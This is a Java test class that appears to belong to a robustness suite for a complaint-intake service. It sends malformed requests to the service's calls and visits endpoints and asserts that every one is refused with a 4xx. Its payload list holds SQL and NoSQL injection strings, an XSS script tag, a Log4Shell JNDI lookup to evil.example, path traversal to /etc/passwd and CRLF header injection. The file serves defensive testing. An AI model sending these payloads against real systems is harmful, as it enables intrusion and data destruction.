package com.caseflow.faults;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.time.OffsetDateTime;
import java.time.ZoneId;

/**
 * Requests an attacker or a broken client sends: every one invalid in at least one way — a field missing, of the wrong
 * type, too long, an unknown field, a malformed document — and most also carrying injection strings in Chinese and
 * ASCII. Each must be answered 4xx; none may store or publish anything.
 */
final class Hostile {

    /** What each hostile request got back, by status class. */
    record Result(int sent, Map<Integer, Integer> byStatus, List<String> violations) {
    }

    private static final String[] INJECTIONS = {"'; DROP TABLE contacts; --", "\"}); db.contacts.drop(); //",
            "<script>alert('投诉')</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd",
            "；删除所有数据——管理员", "王女士' OR '1'='1", "\u202e反转文字", "%00%0d%0aSet-Cookie: x=1"};
    /** The valid body of each endpoint and the names of its fields that each mutation breaks. */
    private record Endpoint(String path, String valid, String name, String text, String flag, String other) {
    }

    private static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint("/api/v1/calls", "{\"callerName\":\"王女士\",\"phone\":\"13912345678\","
                    + "\"projectCode\":\"SH-LJY\",\"matter\":\"卫生间漏水\",\"category\":\"REPAIR\","
                    + "\"settledOnCall\":false,\"ringCount\":2}", "callerName", "matter", "settledOnCall", "ringCount"),
            new Endpoint("/api/v1/visits", "{\"arrivedAt\":\"ARRIVED\",\"visitorName\":\"王女士\","
                    + "\"phone\":\"13912345678\",\"projectCode\":\"SH-LJY\",\"purpose\":\"卫生间漏水\","
                    + "\"category\":\"REPAIR\",\"settledOnVisit\":false}", "visitorName", "purpose",
                    "settledOnVisit", "arrivedAt"));
    /** What a refused body may be answered: invalid, too large, not JSON, or not processable. */
    private static final Set<Integer> REFUSALS = Set.of(400, 413, 415, 422);

    private static final String FLIPS = "{}[]\",:\\\u0000漏";

    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(3)).build();
    private final Random random = new Random(9457);

    Result fire(Cluster cluster, String agentToken, int count) {
        Map<Integer, Integer> byStatus = new LinkedHashMap<>();
        List<String> violations = new ArrayList<>();
        String intake = cluster.serviceUrl("intake-service");
        for (int i = 0; i < count; i++) {
            Endpoint endpoint = ENDPOINTS.get(i % 2);
            String path = endpoint.path();
            byte[] body = body(i / 2, endpoint);
            String contentType = i % 17 == 5 ? "text/plain;charset=UTF-8" : "application/json";
            try {
                HttpResponse<String> reply = http.send(HttpRequest.newBuilder(URI.create(intake + path))
                        .timeout(Duration.ofSeconds(15))
                        .header("Authorization", "Bearer " + agentToken).header("Content-Type", contentType)
                        .header("Idempotency-Key", "hostile-" + i)
                        .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(),
                        HttpResponse.BodyHandlers.ofString());
                byStatus.merge(reply.statusCode(), 1, Integer::sum);
                if (!REFUSALS.contains(reply.statusCode())) {
                    violations.add("hostile request " + i + " to " + path + " answered " + reply.statusCode());
                } else if (reply.statusCode() == 400 && !reply.body().contains("\"status\":400")) {
                    violations.add("hostile request " + i + " answered 400 without a problem document");
                }
            } catch (IOException e) {
                violations.add("hostile request " + i + " to " + path + " got no answer: " + e);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                break;
            }
            Node.sleep(Duration.ofMillis(60));  // under the per-user write limit, so that each reaches validation
        }
        return new Result(count, byStatus, violations);
    }

    private byte[] body(int i, Endpoint e) {
        String injection = INJECTIONS[i % INJECTIONS.length];
        String valid = e.valid().replace("ARRIVED", OffsetDateTime.now(ZoneId.of("Asia/Shanghai")).toString());
        String text = switch (i % 12) {
            case 0 -> valid.replace("\"13912345678\"", "\"" + json(injection) + "\"");
            case 1 -> set(valid, e.other(), "\"" + json(injection) + "\"");
            case 2 -> set(valid, e.text(), "\"" + "漏".repeat(20_000 + i) + "\"");
            case 3 -> valid.replace("\"13912345678\"", "{\"$ne\":null}");
            case 4 -> set(valid, "category", "\"" + json(injection) + "\"");
            case 5 -> valid.substring(0, 20 + random.nextInt(valid.length() - 40));
            case 6 -> valid.replaceFirst("}$", ",\"isAdmin\":true,\"note\":\"" + json(injection) + "\"}");
            case 7 -> set(valid, e.flag(), "[\"" + json(injection) + "\"]");
            case 8 -> "[".repeat(5_000) + "]".repeat(5_000);
            case 9 -> set(set(valid, e.name(), "\"" + json(injection) + "名".repeat(60) + "\""), "projectCode",
                    "\"X' OR 1=1\"");
            case 10 -> set(valid, e.text(), "\"" + json(injection) + "\"").replace("\"" + e.name() + "\":\"王女士\",", "");
            default -> mutate(valid);
        };
        if (i % 23 == 11) {
            return new byte[] {'{', '"', 'm', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'};
        }
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** The body with one field's value replaced by raw JSON. */
    private static String set(String body, String field, String json) {
        return body.replaceFirst("\"" + field + "\":(\"[^\"]*\"|[^,}]*)", java.util.regex.Matcher.quoteReplacement(
                "\"" + field + "\":" + json));
    }

    /** Random bytes flipped: mostly not JSON any more; the phone is broken too, so that no mutation can be valid. */
    private String mutate(String valid) {
        char[] chars = valid.replace("13912345678", "1391234567\u0000").toCharArray();
        for (int flips = 0; flips < 3; flips++) {
            chars[random.nextInt(chars.length)] = FLIPS.charAt(random.nextInt(FLIPS.length()));
        }
        return new String(chars);
    }

    private static String json(String text) {
        return text.replace("\\", "\\\\").replace("\"", "\\\"");
    }
}
